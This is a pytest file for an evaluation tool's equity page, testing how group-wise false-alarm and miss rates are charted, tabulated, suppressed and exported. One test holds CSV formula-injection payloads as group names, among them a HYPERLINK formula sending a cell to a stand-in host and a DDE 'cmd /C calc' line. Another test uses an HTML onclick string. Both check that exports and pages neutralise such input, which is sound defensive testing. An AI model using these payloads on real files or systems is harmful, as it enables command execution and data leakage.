"""The page of equity: every figure is drawn, nothing suppressed is, and a problem says what to do."""

from __future__ import annotations

import re
import urllib.parse
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from widgets import EquityPage, equity_page
from widgets.equity_charts import rates_chart
from widgets.equity_ratio_charts import UNSEEN, ratios_chart
from widgets.equity_view import Said
from widgets.tables import Table
from workbench.evaluation import Measurement, write_measurement
from workbench.evaluation.equity import equity_at
from workbench.evaluation.equity_synthetic import (
    SyntheticGroup,
    synthetic_measurement,
    synthetic_searches,
)
from workbench.evaluation.equity_tables import EquityResult

MARKUP = "<b onclick='x'>&"


@pytest.fixture(scope="module")
def page() -> EquityPage:
    return equity_page()


@pytest.fixture(scope="module")
def result(page: EquityPage) -> EquityResult:
    assert page.result is not None
    return page.result


def of(folder: Path, searches: pl.DataFrame | None = None) -> Path:
    """Write a measurement under another name than that of the synthetic set."""
    made = synthetic_measurement()
    facts = made.facts.model_copy(update={"data_set": "custody set 4", "name": "fused fp32"})
    taken = made.searches if searches is None else searches
    write_measurement(Measurement.of(facts, taken, made.references), folder)
    return folder


def points(figure: Any, name: str) -> dict[float, float]:
    """Return the points of a series by their row."""
    (series,) = [one for one in figure.data if one.name == name]
    return dict(zip(series.y, series.x, strict=True))


@pytest.mark.parametrize("rate", ["FPIR", "FNIR"])
def test_every_rate_that_is_told_is_drawn_and_no_other(result: EquityResult, rate: str) -> None:
    figure = rates_chart(result, rate)
    told = result.rates.filter(pl.col("rate") == rate)
    drawn = [
        value
        for name in ("at T", "at 3 times the FPIR", "at 10 times the FPIR")
        for value in points(figure, name).values()
    ]
    assert drawn == told["value"].drop_nulls().to_list()
    for row in told.filter(pl.col("value").is_not_null()).iter_rows(named=True):
        series = next(one for one in figure.data if row["value"] in (one.x or ()))
        at = list(series.x).index(row["value"])
        assert series.x[at] + series.error_x.array[at] == pytest.approx(row["boot_high"])
        foot = 10 ** figure.layout.xaxis.range[0] if rate == "FPIR" else 0.0
        low = max(row["boot_low"], foot)
        assert series.x[at] - series.error_x.arrayminus[at] == pytest.approx(low)
    assert list(figure.layout.yaxis.ticktext) == [*result.groups, "no group given"]


def test_what_is_suppressed_says_so_in_its_row_and_its_bound_is_marked(
    result: EquityResult,
) -> None:
    figure = rates_chart(result, "FPIR")
    said = {note.y: note.text for note in figure.layout.annotations}
    assert said == {
        3: "suppressed at each threshold<br>(fewer than 30 people)",
        4: "suppressed at each threshold<br>(fewer than 3 expected errors)<br>at most: the triangles",
    }
    (bound,) = result.rates.filter(
        pl.col("group").is_null(), pl.col("rate") == "FPIR", pl.col("step") == 1.0
    )["bound"]
    marks = [one for one in figure.data if one.marker.symbol == "triangle-left-open"]
    assert len(marks) == 3
    assert marks[0].x == (bound,)
    assert marks[0].hovertemplate.startswith("no group given, at T: suppressed (fewer than 3 exp")


def test_what_is_suppressed_at_some_thresholds_says_at_which() -> None:
    groups = {"a": SyntheticGroup(0, 900, 0.02, 0.1), "b": SyntheticGroup(0, 90, 0.02, 0.1)}
    some = equity_at(synthetic_searches(groups, seed=1), 0.6, replicates=10)
    untold = some.rates.filter(pl.col("rate") == "FPIR", pl.col("value").is_null())
    assert 0 < len(untold) < len(some.steps)
    figure = rates_chart(some, "FPIR")
    told = [note.text for note in figure.layout.annotations]
    assert len(told) == len(untold)
    assert told[0].startswith("at T: suppressed (fewer than 3 expected errors)")
    (mark,) = [one for one in figure.data if one.marker.symbol == "triangle-left-open"][:1]
    assert figure.layout.annotations[0].y == mark.y[0]


def test_nothing_is_cut_off_in_a_narrow_page(result: EquityResult) -> None:
    for figure in (rates_chart(result, "FPIR"), ratios_chart(result, "FNIR")):
        lines = figure.layout.title.text.split("<br>") + figure.layout.xaxis.title.text.split(
            "<br>"
        )
        lines += [line for name in figure.layout.yaxis.ticktext for line in name.split("<br>")]
        lines += [line for note in figure.layout.annotations for line in note.text.split("<br>")]
        assert max(map(len, lines)) <= 44
        legend = figure.layout.legend
        assert (legend.yref, legend.y, legend.yanchor) == ("container", 0, "bottom")


def test_steps_are_told_apart_by_shape_and_place_and_not_by_colour_alone(
    result: EquityResult,
) -> None:
    figure = rates_chart(result, "FPIR")
    series = [one for one in figure.data if one.name]
    assert len({one.marker.symbol for one in series}) == len(result.steps) == 3
    assert len({one.y[0] for one in series}) == 3


def test_small_rates_are_labelled_in_words(result: EquityResult) -> None:
    axis = rates_chart(result, "FPIR").layout.xaxis
    assert axis.type == "log"
    assert "1 in 1,000" in axis.ticktext
    assert all(text.startswith("1 in ") or text == "all" for text in axis.ticktext)
    misses = rates_chart(result, "FNIR").layout.xaxis
    assert misses.range[0] == 0.0
    assert misses.ticktext[1].endswith(" of 100")


def test_each_ratio_lies_on_the_bar_of_what_would_have_gone_unseen(result: EquityResult) -> None:
    figure = ratios_chart(result, "FPIR")
    rows = result.comparisons.filter(pl.col("rate") == "FPIR").to_dicts()
    bars = next(one for one in figure.data if one.name == UNSEEN)
    ends = [bars.x[at : at + 2] for at in range(0, len(bars.x), 3)]
    assert [end[1] for end in ends] == [row["seen_above"] for row in rows]
    low = 10 ** figure.layout.xaxis.range[0]
    assert [end[0] for end in ends] == pytest.approx([row["seen_below"] or low for row in rows])
    drawn = points(figure, "not told apart by this set") | points(figure, "the rates differ")
    assert drawn == {float(at): row["ratio"] for at, row in enumerate(rows)}
    assert [trace.marker.symbol[0] for trace in figure.data[1:3]] == ["circle-open", "circle"]


def test_the_axis_of_ratios_marks_multiples_on_both_sides_of_one(result: EquityResult) -> None:
    axis = ratios_chart(result, "FPIR").layout.xaxis
    marks = dict(zip(axis.tickvals, axis.ticktext, strict=True))
    assert marks[1.0] == "1"
    assert {marks[0.1], marks[10.0]} == {"10"}
    assert all(float(text.replace(",", "")) >= 1.0 for text in marks.values())
    assert axis.title.text == "times as high in the second<br>(left of 1) or first (right) group"
    assert len(axis.tickvals) <= 6, "they stand upright in a narrow page"


def test_the_table_of_comparisons_has_headings_in_words_and_the_higher_rate_first(
    tmp_path: Path,
) -> None:
    page = equity_page(of(tmp_path), threshold=0.6, reference="group B")
    assert page.result is not None
    said = page.comparisons("FPIR")._repr_html_()
    heads = re.findall(r"<th[^>]*>([^<]*)</th>", said)
    assert heads == [
        "threshold", "higher rate in", "lower rate in", "times as frequent",
        "from, to (for all comparisons at once)", "difference, of 100 searches", "p",
        "p, corrected for all", "found", "would be seen in 8 of 10 sets",
    ]  # fmt: skip
    cells = [re.findall(r"<td[^>]*>([^<]*)</td>", row) for row in said.split("<tr>")[2:]]
    assert len(cells) == 6
    for row in cells:
        assert float(row[3]) >= 1.0
        assert not re.search(r"\b0\.\d+ times", " ".join(row))
    rates = page.rates()
    assert isinstance(rates, Table)
    assert rates.frame["where"][0] == "False alarms (FPIR), at T"


def test_without_comparisons_a_chart_says_so() -> None:
    alone = equity_at(synthetic_searches({"a": SyntheticGroup(50, 500, 0.05, 0.1)}), 0.6)
    (note,) = [one for one in ratios_chart(alone, "FPIR").layout.annotations if one.text]
    assert note.text == "Nothing was compared."


def test_a_synthetic_set_is_marked_on_everything(page: EquityPage) -> None:
    shown = page.summary()._repr_html_()
    assert "SYNTHETIC. No set with group labels ships" in shown
    assert "<h2" in shown
    for rate in ("FPIR", "FNIR"):
        assert page.chart(rate).layout.title.text.startswith("SYNTHETIC. ")  # type: ignore[union-attr]
        assert page.ratios(rate).layout.title.text.startswith("SYNTHETIC. ")  # type: ignore[union-attr]
        said = page.comparisons(rate)._repr_html_()
        assert said.count("<h3") == said.count(">SYNTHETIC. ") - 1 == 3, "and the table's note"
    table = page.rates()
    assert isinstance(table, Table)
    assert table.note.startswith("SYNTHETIC. ")
    assert 'download="synthetic-equity-rates.csv"' in page.download()._repr_html_()


def test_a_measurement_of_ones_own_is_not_marked_and_names_its_data(tmp_path: Path) -> None:
    page = equity_page(of(tmp_path), threshold=0.6, reference="group B")
    said = page.summary()._repr_html_()
    assert "SYNTHETIC" not in said
    assert "Equity of fused fp32 at T = 0.6" in said
    assert "Measured on custody set 4, split whole, 1,000 references on the list" in said
    assert "compared with group B." in said
    figure = page.chart("FPIR")
    title = figure.layout.title.text.replace("<br>", " ")  # type: ignore[union-attr]
    assert title == "False alarms (FPIR) by group, with 95 % intervals"


def test_the_table_holds_every_row_and_every_figure_is_one_click_away(page: EquityPage) -> None:
    table = page.rates()
    assert isinstance(table, Table)
    assert len(table.frame) == 30
    shown = table._repr_html_()
    assert shown.count("suppressed (fewer than 30 people)") == 6
    assert "not measurable" not in shown
    said = page.comparisons("FPIR")._repr_html_()
    assert "<details" in said
    assert "corrected by Holm for all 12 comparisons" in said


def test_the_files_hold_the_figures(page: EquityPage, result: EquityResult) -> None:
    links = re.findall(r'href="data:text/csv;charset=utf-8,([^"]*)"', page.download()._repr_html_())
    assert len(links) == 2
    for link, frame in zip(links, (result.rates, result.comparisons), strict=True):
        assert urllib.parse.unquote(link) == frame.write_csv()


def test_no_name_of_a_group_is_a_formula_in_the_files(tmp_path: Path) -> None:
    names = {
        "group A": '=HYPERLINK("http://x/"&A1,"y")', "group B": "+1+cmd|' /C calc'!A0",
        "group C": "@a\r=1+1", "group D": "\t-2",
    }  # fmt: skip
    odd = synthetic_measurement().searches.with_columns(pl.col("group").replace(names))
    shown = equity_page(of(tmp_path, odd), threshold=0.6).download()._repr_html_()
    links = re.findall(r'href="data:text/csv;charset=utf-8,([^"]*)"', shown)
    assert len(links) == 2
    found = set()
    for link in links:
        text = urllib.parse.unquote(link)
        assert "\r" not in text
        frame = pl.read_csv(text.encode(), infer_schema=False)
        found |= set(frame["group"].drop_nulls())
        cells = [one for row in frame.iter_rows() for one in row if one]
        numbers = [one for one in cells if re.fullmatch(r"-?[\d.]+(e-?\d+)?", one)]
        assert len(numbers) > len(frame), "and figures stay figures"
        assert not any(one[0] in "=+-@\t" for one in set(cells) - set(numbers))
    assert found == {"'" + name.replace("\r", " ") for name in names.values()}


def test_what_suppression_is_for_and_a_lower_limit_are_on_the_page() -> None:
    usual = equity_page().summary()._repr_html_()
    assert "It is no secrecy" in usual
    assert "lowered" not in usual
    lower = equity_page(smallest_people=5).summary()._repr_html_()
    assert "The limit was lowered for this: by default it is 30 people." in lower


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        (
            {"measurement": "nowhere"},
            "nowhere: there is no such file or folder. One with searches.parquet, references.parquet",
        ),
        (
            {"reference": "group Z"},
            "the set has no group &#x27;group Z&#x27;. Name one of: group A",
        ),
        ({"smallest_people": 0}, "smallest_people is 0"),
    ],
)
def test_a_problem_says_what_to_do_and_nothing_is_raised(
    changes: dict[str, Any], said: str
) -> None:
    page = equity_page(**changes)
    shown = page.summary()._repr_html_()
    assert "Equity not measured" in shown
    assert said in shown
    parts = (
        page.rates(),
        page.chart("FPIR"),
        page.ratios("FNIR"),
        page.comparisons("FPIR"),
        page.download(),
    )
    for part in parts:
        assert isinstance(part, Said)
        assert "Nothing to show: see above." in part._repr_html_()


def test_without_groups_or_threshold_equity_is_not_measured(tmp_path: Path) -> None:
    nobody = synthetic_measurement().searches.with_columns(group=pl.lit(None, pl.String))
    page = equity_page(of(tmp_path / "a", nobody), threshold=0.6)
    assert "searches.parquet: column group is empty in all 5,284 rows" in page.problem
    assert "Name the threshold T" in equity_page(of(tmp_path / "b")).problem


def test_names_of_groups_are_no_markup(tmp_path: Path) -> None:
    odd = synthetic_measurement().searches.with_columns(
        group=pl.col("group").replace({"group A": MARKUP})
    )
    page = equity_page(of(tmp_path, odd), threshold=0.6)
    parts = (page.summary(), page.rates(), page.comparisons("FPIR"), page.comparisons("FNIR"))
    for part in parts:
        assert "<b on" not in part._repr_html_()  # type: ignore[union-attr]
    for figure in (page.chart("FPIR"), page.ratios("FPIR")):
        assert "<b on" not in figure.to_json().replace("\\u003c", "<")  # type: ignore[union-attr]
